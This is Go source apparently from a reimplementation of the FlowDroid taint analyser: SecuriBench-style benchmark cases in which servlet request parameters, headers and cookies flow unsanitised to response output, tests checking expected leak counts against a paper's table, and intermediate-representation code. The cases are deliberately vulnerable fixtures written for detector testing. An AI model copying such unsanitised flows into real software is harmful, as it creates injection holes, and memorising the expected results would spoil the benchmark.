  loop:
    if * goto done
    acc = acc + s
    goto loop
  done:
    pw.println(acc)`))

	basic("Basic10", 1, 1, "flow through a helper method's return value",
		`
class sb.Basic10 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    t = this.decorate(s)
    pw.println(t)
  }
  method decorate(x: java.lang.String): java.lang.String {
    r = "[" + x
    return r
  }
}`)

	basic("Basic11", 1, 1, "helper taints a field of a passed object",
		`
class sb.Box11 {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Basic11 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    b = new sb.Box11()
    this.fill(b, s)
    t = b.v
    pw.println(t)
  }
  method fill(box: sb.Box11, val: java.lang.String): void {
    box.v = val
  }
}`)

	basic("Basic12", 1, 1, "flow through an array cell",
		doGet("Basic12", `
    s = req.getParameter("name")
    arr = newarray java.lang.String
    arr[0] = s
    t = arr[0]
    pw.println(t)`))

	basic("Basic13", 3, 3, "string operations preserve taint at every stage",
		doGet("Basic13", `
    s = req.getParameter("name")
    a = s.substring(1)
    pw.println(a)
    bb = a.trim()
    pw.println(bb)
    c = bb.toUpperCase()
    pw.println(c)`))

	basic("Basic14", 1, 1, "flow through a two-level object chain",
		`
class sb.Inner14 {
  field data: java.lang.String
  method init(): void {
    return
  }
}
class sb.Outer14 {
  field inner: sb.Inner14
  method init(): void {
    i = new sb.Inner14()
    this.inner = i
  }
}
class sb.Basic14 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    o = new sb.Outer14()
    i1 = o.inner
    i1.data = s
    i2 = o.inner
    t = i2.data
    pw.println(t)
  }
}`)

	basic("Basic15", 1, 1, "flow through interface dispatch",
		`
interface sb.Render15 {
  method render(x: java.lang.String): java.lang.String;
}
class sb.Bold15 implements sb.Render15 {
  method init(): void {
    return
  }
  method render(x: java.lang.String): java.lang.String {
    r = "<b>" + x
    return r
  }
}
class sb.Basic15 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    local r: sb.Render15
    r = new sb.Bold15()
    t = r.render(s)
    pw.println(t)
  }
}`)

	basic("Basic16", 1, 1, "flow survives an up-cast and a down-cast",
		doGet("Basic16", `
    s = req.getParameter("name")
    local o: java.lang.Object
    o = (java.lang.Object) s
    local t: java.lang.String
    t = (java.lang.String) o
    pw.println(t)`))

	basic("Basic17", 4, 4, "four parameters, four leaks",
		doGet("Basic17", `
    a = req.getParameter("a")
    bb = req.getParameter("b")
    c = req.getParameter("c")
    d = req.getParameter("d")
    pw.println(a)
    pw.println(bb)
    pw.println(c)
    pw.println(d)`))

	basic("Basic18", 1, 1, "conditionally chosen value still leaks",
		doGet("Basic18", `
    s = req.getParameter("name")
    local v: java.lang.String
    if * goto clean
    v = s
    goto use
  clean:
    v = "constant"
  use:
    pw.println(v)`))

	basic("Basic19", 1, 1, "cookie values are sources too",
		doGet("Basic19", `
    cookies = req.getCookies()
    c0 = cookies[0]
    v = c0.getValue()
    pw.println(v)`))

	basic("Basic20", 1, 1, "a replace() call is not sanitization",
		doGet("Basic20", `
    s = req.getParameter("name")
    t = s.replace("<", "&lt;")
    pw.println(t)`))

	basic("Basic21", 1, 1, "flow through a custom toString",
		`
class sb.Wrap21 {
  field v: java.lang.String
  method init(v: java.lang.String): void {
    this.v = v
  }
  method toString(): java.lang.String {
    r = this.v
    return r
  }
}
class sb.Basic21 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    w = new sb.Wrap21(s)
    t = w.toString()
    pw.println(t)
  }
}`)

	basic("Basic22", 1, 1, "taint carried through recursion",
		`
class sb.Basic22 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    t = this.bounce(s, 3)
    pw.println(t)
  }
  method bounce(x: java.lang.String, n: int): java.lang.String {
    if * goto base
    m = n - 1
    r = this.bounce(x, m)
    return r
  base:
    return x
  }
}`)

	basic("Basic23", 2, 2, "values swapped through a temporary, both leak",
		doGet("Basic23", `
    a = req.getParameter("a")
    bb = req.getParameter("b")
    tmp = a
    a = bb
    bb = tmp
    pw.println(a)
    pw.println(bb)`))

	basic("Basic24", 1, 1, "flow through a StringBuffer",
		doGet("Basic24", `
    s = req.getParameter("name")
    sb = new java.lang.StringBuffer()
    sb.append(s)
    t = sb.toString()
    pw.println(t)`))

	basic("Basic25", 1, 1, "flow through String.format",
		doGet("Basic25", `
    s = req.getParameter("name")
    local o: java.lang.Object
    o = (java.lang.Object) s
    t = java.lang.String.format("hi %s", o)
    pw.println(t)`))

	basic("Basic26", 2, 2, "header and parameter sources both leak",
		doGet("Basic26", `
    p = req.getParameter("name")
    h = req.getHeader("User-Agent")
    pw.println(p)
    pw.println(h)`))

	basic("Basic27", 1, 1, "a long chain of local copies",
		doGet("Basic27", `
    s = req.getParameter("name")
    a1 = s
    a2 = a1
    a3 = a2
    a4 = a3
    a5 = a4
    a6 = a5
    a7 = a6
    a8 = a7
    pw.println(a8)`))

	basic("Basic28", 3, 3, "the same source leaks from three helpers",
		`
class sb.Basic28 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    this.h1(pw, s)
    this.h2(pw, s)
    this.h3(pw, s)
  }
  method h1(pw: java.io.PrintWriter, x: java.lang.String): void {
    pw.println(x)
  }
  method h2(pw: java.io.PrintWriter, x: java.lang.String): void {
    y = x.trim()
    pw.println(y)
  }
  method h3(pw: java.io.PrintWriter, x: java.lang.String): void {
    z = "3:" + x
    pw.println(z)
  }
}`)

	basic("Basic29", 1, 1, "flow through String.valueOf",
		doGet("Basic29", `
    s = req.getParameter("name")
    local o: java.lang.Object
    o = (java.lang.Object) s
    t = java.lang.String.valueOf(o)
    pw.println(t)`))

	basic("Basic30", 2, 2, "two paths through a shared static helper",
		`
class sb.Util30 {
  static method pass(x: java.lang.String): java.lang.String {
    return x
  }
}
class sb.Basic30 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    a = req.getParameter("a")
    bb = req.getParameter("b")
    x = sb.Util30.pass(a)
    y = sb.Util30.pass(bb)
    pw.println(x)
    pw.println(y)
  }
}`)

	basic("Basic31", 1, 1, "a four-level call chain",
		`
class sb.Basic31 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    t = this.l1(s)
    pw.println(t)
  }
  method l1(x: java.lang.String): java.lang.String {
    r = this.l2(x)
    return r
  }
  method l2(x: java.lang.String): java.lang.String {
    r = this.l3(x)
    return r
  }
  method l3(x: java.lang.String): java.lang.String {
    r = x + "."
    return r
  }
}`)

	basic("Basic32", 1, 1, "taint captured by a constructor",
		`
class sb.Holder32 {
  field data: java.lang.String
  method init(d: java.lang.String): void {
    this.data = d
  }
  method get(): java.lang.String {
    r = this.data
    return r
  }
}
class sb.Basic32 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    h = new sb.Holder32(s)
    t = h.get()
    pw.println(t)
  }
}`)

	basic("Basic33", 1, 1, "overwrite on one branch only: the other leaks",
		doGet("Basic33", `
    s = req.getParameter("name")
    if * goto keep
    s = "clean"
  keep:
    pw.println(s)`))

	basic("Basic34", 2, 2, "two carrier objects, two leaks",
		`
class sb.Cell34 {
  field v: java.lang.String
  method init(): void {
    return
  }
}
class sb.Basic34 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    a = req.getParameter("a")
    bb = req.getParameter("b")
    c1 = new sb.Cell34()
    c2 = new sb.Cell34()
    c1.v = a
    c2.v = bb
    t1 = c1.v
    t2 = c2.v
    pw.println(t1)
    pw.println(t2)
  }
}`)

	basic("Basic35", 1, 1, "taint tracked through primitive conversion",
		doGet("Basic35", `
    s = req.getParameter("count")
    n = java.lang.Integer.parseInt(s)
    m = n + 1
    t = java.lang.String.valueOf(m)
    pw.println(t)`))

	basic("Basic36", 1, 1, "trim after concatenation",
		doGet("Basic36", `
    s = req.getParameter("name")
    t = " " + s
    u = t.trim()
    pw.println(u)`))

	basic("Basic37", 3, 3, "three headers leaked through one helper object",
		`
class sb.Sink37 {
  field pw: java.io.PrintWriter
  method init(pw: java.io.PrintWriter): void {
    this.pw = pw
  }
  method emit(x: java.lang.String): void {
    w = this.pw
    w.println(x)
  }
}
class sb.Basic37 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    o = new sb.Sink37(pw)
    h1 = req.getHeader("a")
    h2 = req.getHeader("b")
    h3 = req.getHeader("c")
    o.emit(h1)
    o.emit(h2)
    o.emit(h3)
  }
}`)

	basic("Basic38", 2, 2, "parallel helper objects with distinct payloads",
		`
class sb.Carrier38 {
  field load: java.lang.String
  method init(): void {
    return
  }
  method fill(x: java.lang.String): void {
    this.load = x
  }
  method dump(): java.lang.String {
    r = this.load
    return r
  }
}
class sb.Basic38 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    a = req.getParameter("a")
    bb = req.getParameter("b")
    p = new sb.Carrier38()
    q = new sb.Carrier38()
    p.fill(a)
    q.fill(bb)
    t1 = p.dump()
    t2 = q.dump()
    pw.println(t1)
    pw.println(t2)
  }
}`)

	basic("Basic39", 2, 2, "re-sourcing a variable: both sinks leak",
		doGet("Basic39", `
    s = req.getParameter("a")
    pw.println(s)
    s = req.getParameter("b")
    pw.println(s)`))

	basic("BasicStaticInit1", 1, 0,
		"a static initializer leaks a static field written before the "+
			"class's first use; missed because clinit is assumed to run at "+
			"program start (the StaticInitialization1 limitation)",
		`
class sb.Late40 {
  static field data: java.lang.String
  static field pw: java.io.PrintWriter
  method init(): void {
    return
  }
  static method clinit(): void {
    t = sb.Late40.data
    w = sb.Late40.pw
    w.println(t)
  }
}
class sb.BasicStaticInit1 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    sb.Late40.data = s
    sb.Late40.pw = pw
    l = new sb.Late40()
  }
}`)

	basic("BasicStaticInit2", 1, 0,
		"variant of BasicStaticInit1 with the leak buried one call deeper",
		`
class sb.Late41 {
  static field data: java.lang.String
  static field pw: java.io.PrintWriter
  method init(): void {
    return
  }
  static method clinit(): void {
    sb.Late41.emit()
  }
  static method emit(): void {
    t = sb.Late41.data
    w = sb.Late41.pw
    w.println(t)
  }
}
class sb.BasicStaticInit2 extends javax.servlet.http.HttpServlet {
  method doGet(req: javax.servlet.http.HttpServletRequest, resp: javax.servlet.http.HttpServletResponse): void {
    pw = resp.getWriter()
    s = req.getParameter("name")
    sb.Late41.data = s
    sb.Late41.pw = pw
    l = new sb.Late41()
  }
}`)
}
