package securibench

import (
	"strings"
	"testing"
)

func TestSuiteTotals(t *testing.T) {
	cases := Cases()
	expected, finds := 0, 0
	perCat := map[string]int{}
	for _, c := range cases {
		expected += c.ExpectedLeaks
		finds += c.FlowDroidFinds
		perCat[c.Category]++
		if c.Note == "" || c.Source == "" {
			t.Errorf("%s: incomplete case", c.Name)
		}
	}
	if expected != 121 {
		t.Errorf("total expected leaks = %d, want 121 (Table 2)", expected)
	}
	for _, cat := range CategoryOrder {
		if perCat[cat] == 0 {
			t.Errorf("category %s has no cases", cat)
		}
	}
}

// TestPerCase checks every case against its documented FlowDroid result.
func TestPerCase(t *testing.T) {
	for _, c := range Cases() {
		c := c
		t.Run(c.Name, func(t *testing.T) {
			found, err := Run(c)
			if err != nil {
				t.Fatalf("%v", err)
			}
			if found != c.FlowDroidFinds {
				t.Errorf("found %d leaks, want %d (expected ground truth %d): %s",
					found, c.FlowDroidFinds, c.ExpectedLeaks, c.Note)
			}
		})
	}
}

// TestTable2 reproduces the paper's Table 2: 117 of 121 true positives
// with 9 false positives (6 in Arrays, 3 in Collections).
func TestTable2(t *testing.T) {
	results, err := RunSuite()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]struct{ tp, exp, fp int }{
		"Aliasing":      {11, 11, 0},
		"Arrays":        {9, 9, 6},
		"Basic":         {58, 60, 0},
		"Collections":   {14, 14, 3},
		"Datastructure": {5, 5, 0},
		"Factory":       {3, 3, 0},
		"Inter":         {14, 16, 0},
		"Session":       {3, 3, 0},
		"StrongUpdates": {0, 0, 0},
	}
	totTP, totExp, totFP := 0, 0, 0
	for _, r := range results {
		w, ok := want[r.Category]
		if !ok {
			t.Errorf("unexpected category %s", r.Category)
			continue
		}
		if r.TP != w.tp || r.Expected != w.exp || r.FP != w.fp {
			t.Errorf("%s: TP=%d/%d FP=%d, want %d/%d FP=%d",
				r.Category, r.TP, r.Expected, r.FP, w.tp, w.exp, w.fp)
		}
		totTP += r.TP
		totExp += r.Expected
		totFP += r.FP
	}
	if totTP != 117 || totExp != 121 || totFP != 9 {
		t.Errorf("totals TP=%d/%d FP=%d, want 117/121 FP=9", totTP, totExp, totFP)
	}
	out := RenderTable(results)
	for _, wantStr := range []string{"Aliasing", "117/121", "Sum", "n/a"} {
		if !strings.Contains(out, wantStr) {
			t.Errorf("rendered table missing %q:\n%s", wantStr, out)
		}
	}
}
