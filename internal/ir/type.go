// Package ir defines a typed three-address intermediate representation in
// the style of Soot's Jimple. It is the substrate every other analysis in
// this repository is built on: programs are collections of classes holding
// fields and methods, and method bodies are flat statement lists over
// locals, field references, array references and constants.
//
// The representation deliberately mirrors the statement algebra the
// FlowDroid paper's transfer functions are defined over: simple
// assignments, heap loads and stores, array loads and stores, allocation,
// invocations, opaque branches and returns. Conditions are always opaque
// ("if *"), matching the paper's observation that the analysis is not path
// sensitive and joins at every control-flow merge point.
package ir

import "strings"

// TypeKind discriminates the small fixed set of type shapes the IR knows.
type TypeKind int

const (
	// UnknownType is the zero type; it is used for locals whose type
	// inference has not (or cannot) determine a more precise type.
	UnknownType TypeKind = iota
	// VoidType is the return type of methods that return nothing.
	VoidType
	// PrimType is a primitive such as int, char or boolean.
	PrimType
	// RefType is a class or interface reference type.
	RefType
	// ArrayType is an array of an element type.
	ArrayType
	// NullType is the type of the null constant.
	NullType
)

// Type describes the static type of a value. Types are small values and are
// compared structurally with Equal. The zero Type is the unknown type.
type Type struct {
	Kind TypeKind
	// Name holds the class name for RefType and the primitive name
	// ("int", "char", ...) for PrimType.
	Name string
	// Elem is the element type for ArrayType.
	Elem *Type
}

// Common primitive and special types.
var (
	Unknown = Type{Kind: UnknownType}
	Void    = Type{Kind: VoidType}
	Int     = Type{Kind: PrimType, Name: "int"}
	Long    = Type{Kind: PrimType, Name: "long"}
	Char    = Type{Kind: PrimType, Name: "char"}
	Boolean = Type{Kind: PrimType, Name: "boolean"}
	Null    = Type{Kind: NullType}
)

// primitiveNames lists the identifiers that the front end treats as
// primitive type names rather than class names.
var primitiveNames = map[string]Type{
	"int":     Int,
	"long":    Long,
	"char":    Char,
	"boolean": Boolean,
	"byte":    {Kind: PrimType, Name: "byte"},
	"short":   {Kind: PrimType, Name: "short"},
	"float":   {Kind: PrimType, Name: "float"},
	"double":  {Kind: PrimType, Name: "double"},
}

// Ref returns the reference type for the named class or interface.
func Ref(class string) Type { return Type{Kind: RefType, Name: class} }

// ArrayOf returns the array type with the given element type.
func ArrayOf(elem Type) Type {
	e := elem
	return Type{Kind: ArrayType, Elem: &e}
}

// TypeFromName maps a source-level type name to a Type. Names ending in
// "[]" become array types, primitive names become primitives, "void"
// becomes Void, and everything else is a class reference.
func TypeFromName(name string) Type {
	if strings.HasSuffix(name, "[]") {
		return ArrayOf(TypeFromName(strings.TrimSuffix(name, "[]")))
	}
	if name == "void" {
		return Void
	}
	if t, ok := primitiveNames[name]; ok {
		return t
	}
	return Ref(name)
}

// IsRef reports whether t is a class or interface reference type.
func (t Type) IsRef() bool { return t.Kind == RefType }

// IsArray reports whether t is an array type.
func (t Type) IsArray() bool { return t.Kind == ArrayType }

// IsPrim reports whether t is a primitive type.
func (t Type) IsPrim() bool { return t.Kind == PrimType }

// IsUnknown reports whether t is the unknown type.
func (t Type) IsUnknown() bool { return t.Kind == UnknownType }

// Equal reports whether two types are structurally identical.
func (t Type) Equal(u Type) bool {
	if t.Kind != u.Kind || t.Name != u.Name {
		return false
	}
	if t.Kind == ArrayType {
		return t.Elem.Equal(*u.Elem)
	}
	return true
}

// String renders the type as a source-level name.
func (t Type) String() string {
	switch t.Kind {
	case UnknownType:
		return "?"
	case VoidType:
		return "void"
	case PrimType:
		return t.Name
	case RefType:
		return t.Name
	case ArrayType:
		return t.Elem.String() + "[]"
	case NullType:
		return "null"
	}
	return "?"
}
