package ir

import (
	"strings"
	"testing"
)

func TestTypes(t *testing.T) {
	cases := []struct {
		name string
		want Type
	}{
		{"int", Int},
		{"boolean", Boolean},
		{"void", Void},
		{"java.lang.String", Ref("java.lang.String")},
		{"int[]", ArrayOf(Int)},
		{"java.lang.String[]", ArrayOf(Ref("java.lang.String"))},
	}
	for _, c := range cases {
		got := TypeFromName(c.name)
		if !got.Equal(c.want) {
			t.Errorf("TypeFromName(%q) = %v, want %v", c.name, got, c.want)
		}
		if got.String() != c.name {
			t.Errorf("TypeFromName(%q).String() = %q", c.name, got.String())
		}
	}
	if !ArrayOf(Int).IsArray() || ArrayOf(Int).IsRef() {
		t.Error("array type predicates wrong")
	}
	if !Ref("A").IsRef() || Ref("A").IsPrim() {
		t.Error("ref type predicates wrong")
	}
	if !Unknown.IsUnknown() {
		t.Error("unknown predicate wrong")
	}
	if ArrayOf(Int).Equal(ArrayOf(Long)) {
		t.Error("distinct array types must differ")
	}
}

func TestClassAPI(t *testing.T) {
	c := NewClass("A", "java.lang.Object")
	f, err := c.AddField("x", Int, false)
	if err != nil || f.Class != c {
		t.Fatalf("AddField: %v", err)
	}
	if _, err := c.AddField("x", Int, false); err == nil {
		t.Error("duplicate field should fail")
	}
	if c.Field("x") != f || c.Field("y") != nil {
		t.Error("Field lookup wrong")
	}
	m1 := NewMethod("m", Void, false)
	if err := c.AddMethod(m1); err != nil {
		t.Fatal(err)
	}
	m2 := NewMethod("m", Void, false)
	if _, err := m2.AddParam("p", Int); err != nil {
		t.Fatal(err)
	}
	if err := c.AddMethod(m2); err != nil {
		t.Fatal("same name different arity should be fine:", err)
	}
	m3 := NewMethod("m", Void, false)
	if err := c.AddMethod(m3); err == nil {
		t.Error("duplicate (name, arity) should fail")
	}
	if got := len(c.MethodsNamed("m")); got != 2 {
		t.Errorf("MethodsNamed = %d, want 2", got)
	}
	if c.Method("m", 1) != m2 {
		t.Error("arity lookup wrong")
	}
}

func TestMethodFinalize(t *testing.T) {
	c := NewClass("A", "")
	m := NewMethod("m", Void, true)
	if err := c.AddMethod(m); err != nil {
		t.Fatal(err)
	}
	x := m.Local("x")
	body := []Stmt{
		&AssignStmt{LHS: x, RHS: IntOf(1)},
		&IfStmt{Target: "end"},
		&GotoStmt{Target: "end"},
	}
	end := &NopStmt{}
	end.SetLabel("end")
	body = append(body, end)
	m.SetBody(body)
	if err := m.Finalize(); err != nil {
		t.Fatal(err)
	}
	// Finalize appends a trailing return.
	got := m.Body()
	if _, ok := got[len(got)-1].(*ReturnStmt); !ok {
		t.Error("missing synthesized trailing return")
	}
	if got[1].(*IfStmt).TargetIndex != 3 {
		t.Errorf("if target = %d, want 3", got[1].(*IfStmt).TargetIndex)
	}
	for i, s := range got {
		if s.Index() != i || s.Method() != m {
			t.Errorf("stmt %d has index %d / method %v", i, s.Index(), s.Method())
		}
	}
	// Idempotent.
	if err := m.Finalize(); err != nil {
		t.Error(err)
	}
}

func TestFinalizeErrors(t *testing.T) {
	c := NewClass("A", "")
	m := NewMethod("m", Void, true)
	if err := c.AddMethod(m); err != nil {
		t.Fatal(err)
	}
	m.SetBody([]Stmt{&GotoStmt{Target: "nowhere"}})
	if err := m.Finalize(); err == nil || !strings.Contains(err.Error(), "undefined label") {
		t.Errorf("want undefined label error, got %v", err)
	}

	m2 := NewMethod("m2", Void, true)
	if err := c.AddMethod(m2); err != nil {
		t.Fatal(err)
	}
	a := &NopStmt{}
	a.SetLabel("L")
	b := &NopStmt{}
	b.SetLabel("L")
	m2.SetBody([]Stmt{a, b})
	if err := m2.Finalize(); err == nil || !strings.Contains(err.Error(), "duplicate label") {
		t.Errorf("want duplicate label error, got %v", err)
	}
}

func TestProgramResolution(t *testing.T) {
	p := NewProgram()
	obj := NewClassIn(p, "java.lang.Object", "")
	obj.Method("toString", Ref("java.lang.String")).Done()
	base := NewClassIn(p, "Base", "")
	base.Field("f", Int)
	base.Method("m", Void).Done()
	sub := NewClassIn(p, "Sub", "Base")
	sub.Method("m", Void).Done()
	NewClassIn(p, "Other", "")
	if err := p.Link(); err != nil {
		t.Fatal(err)
	}

	if got := p.ResolveMethod("Sub", "m", 0); got == nil || got.Class.Name != "Sub" {
		t.Errorf("override resolution: %v", got)
	}
	if got := p.ResolveMethod("Sub", "toString", 0); got == nil || got.Class.Name != "java.lang.Object" {
		t.Errorf("inherited resolution: %v", got)
	}
	if got := p.ResolveField("Sub", "f"); got == nil || got.Class.Name != "Base" {
		t.Errorf("field resolution through super: %v", got)
	}
	if !p.SubtypeOf("Sub", "java.lang.Object") {
		t.Error("transitive subtyping failed")
	}
	subs := p.SubtypesOf("Base")
	if len(subs) != 2 {
		t.Errorf("SubtypesOf(Base) = %v", subs)
	}
	if p.Class("Missing") != nil {
		t.Error("missing class should be nil")
	}
	if err := p.AddClass(NewClass("Base", "")); err == nil {
		t.Error("duplicate class should fail")
	}
}

func TestValueHelpers(t *testing.T) {
	l := &Local{Name: "x"}
	c := IntOf(5)
	call := &InvokeExpr{Kind: StaticInvoke, Ref: MethodRef{Class: "C", Name: "m", NArgs: 1}, Args: []Value{c}}
	if !IsSimple(l) || !IsSimple(c) || IsSimple(call) {
		t.Error("IsSimple misclassifies")
	}
	assign := &AssignStmt{LHS: l, RHS: call}
	if CallOf(assign) != call || !IsCall(assign) {
		t.Error("CallOf through assignment failed")
	}
	if CallResult(assign) != l {
		t.Error("CallResult failed")
	}
	inv := &InvokeStmt{Call: call}
	if CallOf(inv) != call || CallResult(inv) != nil {
		t.Error("CallOf/CallResult on invoke stmt failed")
	}
	plain := &AssignStmt{LHS: l, RHS: c}
	if IsCall(plain) {
		t.Error("plain assignment is not a call")
	}
	if StringOf("a").Kind != StringConst || NullOf().Kind != NullConst || ResOf("id/x").Kind != ResConst {
		t.Error("constant constructors wrong")
	}
}

func TestBuilderProducesLinkedClass(t *testing.T) {
	p := NewProgram()
	cb := NewClassIn(p, "B", "")
	cb.Field("data", Ref("java.lang.String"))
	mb := cb.Method("run", Void)
	v := mb.Local("v")
	mb.Assign(v, StringOf("hi"))
	mb.Assign(&FieldRef{Base: mb.This(), Name: "data"}, v)
	mb.Label("out").Return(nil)
	mb.Done()
	if err := cb.Err(); err != nil {
		t.Fatal(err)
	}
	if err := p.Link(); err != nil {
		t.Fatal(err)
	}
	m := p.Class("B").Method("run", 0)
	if m == nil {
		t.Fatal("method not registered")
	}
	// Field reference resolved by Link.
	fr := m.Body()[1].(*AssignStmt).LHS.(*FieldRef)
	if fr.Field == nil || fr.Field.Name != "data" {
		t.Errorf("field not resolved: %+v", fr)
	}
	if m.Body()[2].Label() != "out" {
		t.Error("label lost")
	}
	// Printing must mention the class parts.
	out := PrintClass(p.Class("B"))
	for _, want := range []string{"class B", "field data", "method run", "this.data = v"} {
		if !strings.Contains(out, want) {
			t.Errorf("PrintClass output missing %q:\n%s", want, out)
		}
	}
}

func TestExitAndEntry(t *testing.T) {
	p := NewProgram()
	cb := NewClassIn(p, "C", "")
	mb := cb.StaticMethod("m", Int)
	x := mb.Local("x")
	mb.Assign(x, IntOf(1))
	mb.If("alt")
	mb.Return(x)
	mb.Label("alt").Return(IntOf(2))
	mb.Done()
	if err := p.Link(); err != nil {
		t.Fatal(err)
	}
	m := p.Class("C").Method("m", 0)
	if m.EntryStmt().Index() != 0 {
		t.Error("entry stmt wrong")
	}
	if got := len(m.ExitStmts()); got != 2 {
		t.Errorf("exits = %d, want 2", got)
	}
	if m.Abstract() {
		t.Error("method with body is not abstract")
	}
}
