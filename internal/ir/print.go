package ir

import (
	"fmt"
	"strings"
)

// PrintMethod renders a method body in the textual IR syntax, with
// statement indices in a comment column. It is used by the cmd/dummymain
// tool and by debugging output.
func PrintMethod(m *Method) string {
	var sb strings.Builder
	kind := "method"
	if m.Static {
		kind = "static method"
	}
	params := make([]string, len(m.Params))
	for i, p := range m.Params {
		params[i] = fmt.Sprintf("%s: %s", p.Name, p.Type)
	}
	fmt.Fprintf(&sb, "%s %s(%s): %s {\n", kind, m.Name, strings.Join(params, ", "), m.Return)
	for i, s := range m.Body() {
		if l := s.Label(); l != "" {
			fmt.Fprintf(&sb, "%s:\n", l)
		}
		fmt.Fprintf(&sb, "    %-50s // %d\n", s.String(), i)
	}
	sb.WriteString("}\n")
	return sb.String()
}

// PrintClass renders a class declaration and all its method bodies.
func PrintClass(c *Class) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "class %s", c.Name)
	if c.Super != "" {
		fmt.Fprintf(&sb, " extends %s", c.Super)
	}
	if len(c.Interfaces) > 0 {
		fmt.Fprintf(&sb, " implements %s", strings.Join(c.Interfaces, ", "))
	}
	sb.WriteString(" {\n")
	for _, f := range c.Fields() {
		mod := ""
		if f.Static {
			mod = "static "
		}
		fmt.Fprintf(&sb, "  %sfield %s: %s\n", mod, f.Name, f.Type)
	}
	for _, m := range c.Methods() {
		for _, line := range strings.Split(strings.TrimRight(PrintMethod(m), "\n"), "\n") {
			fmt.Fprintf(&sb, "  %s\n", line)
		}
	}
	sb.WriteString("}\n")
	return sb.String()
}
