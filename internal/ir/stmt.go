package ir

import "fmt"

// Stmt is a single three-address statement in a method body. Statement
// identity is pointer identity; after Method.Finalize every statement knows
// its owning method and its index in the body, which the CFG and the IFDS
// solvers use as the node identity.
type Stmt interface {
	stmtNode()
	// Method returns the method owning this statement (after Finalize).
	Method() *Method
	// Index returns the position of this statement in its method body.
	Index() int
	// Label returns the label attached to this statement, or "".
	Label() string
	// Line returns the source line the statement came from (0 if built
	// programmatically).
	Line() int
	String() string
}

// StmtBase carries the bookkeeping shared by all statement kinds. Embed it
// in each concrete statement.
type StmtBase struct {
	method *Method
	index  int
	label  string
	line   int
}

func (*StmtBase) stmtNode() {}

// Method returns the owning method.
func (s *StmtBase) Method() *Method { return s.method }

// Index returns the statement's index within its method body.
func (s *StmtBase) Index() int { return s.index }

// Label returns the statement's label, or "".
func (s *StmtBase) Label() string { return s.label }

// Line returns the statement's source line (0 for synthetic statements).
func (s *StmtBase) Line() int { return s.line }

// SetLabel attaches a label; used by builders and the parser.
func (s *StmtBase) SetLabel(l string) { s.label = l }

// SetLine records the source line; used by the parser.
func (s *StmtBase) SetLine(n int) { s.line = n }

// AssignStmt is "lhs = rhs". The LHS is a *Local, *FieldRef,
// *StaticFieldRef or *ArrayRef; the RHS is any Value. A heap write (LHS is
// a field or array reference) is the trigger point for the on-demand
// backward alias analysis.
type AssignStmt struct {
	StmtBase
	LHS Value
	RHS Value
}

func (s *AssignStmt) String() string { return fmt.Sprintf("%s = %s", s.LHS, s.RHS) }

// InvokeStmt is a stand-alone invocation whose result, if any, is unused.
type InvokeStmt struct {
	StmtBase
	Call *InvokeExpr
}

func (s *InvokeStmt) String() string { return s.Call.String() }

// IfStmt is an opaque conditional branch: "if * goto Target". The analysis
// treats both outcomes as possible, matching the paper's opaque predicate p.
type IfStmt struct {
	StmtBase
	Target string
	// TargetIndex is the resolved body index of Target (set by Finalize).
	TargetIndex int
}

func (s *IfStmt) String() string { return "if * goto " + s.Target }

// GotoStmt is an unconditional jump.
type GotoStmt struct {
	StmtBase
	Target      string
	TargetIndex int
}

func (s *GotoStmt) String() string { return "goto " + s.Target }

// ReturnStmt leaves the method, optionally yielding a value (a *Local or
// *Const by three-address form).
type ReturnStmt struct {
	StmtBase
	Value Value // nil for "return"
}

func (s *ReturnStmt) String() string {
	if s.Value == nil {
		return "return"
	}
	return "return " + s.Value.String()
}

// NopStmt does nothing; it exists to carry labels and as a placeholder in
// generated code.
type NopStmt struct {
	StmtBase
}

func (s *NopStmt) String() string { return "nop" }

// CallOf returns the invocation expression contained in s, whether s is an
// InvokeStmt or an AssignStmt with an invocation RHS, or nil if s is not a
// call statement.
func CallOf(s Stmt) *InvokeExpr {
	switch s := s.(type) {
	case *InvokeStmt:
		return s.Call
	case *AssignStmt:
		if e, ok := s.RHS.(*InvokeExpr); ok {
			return e
		}
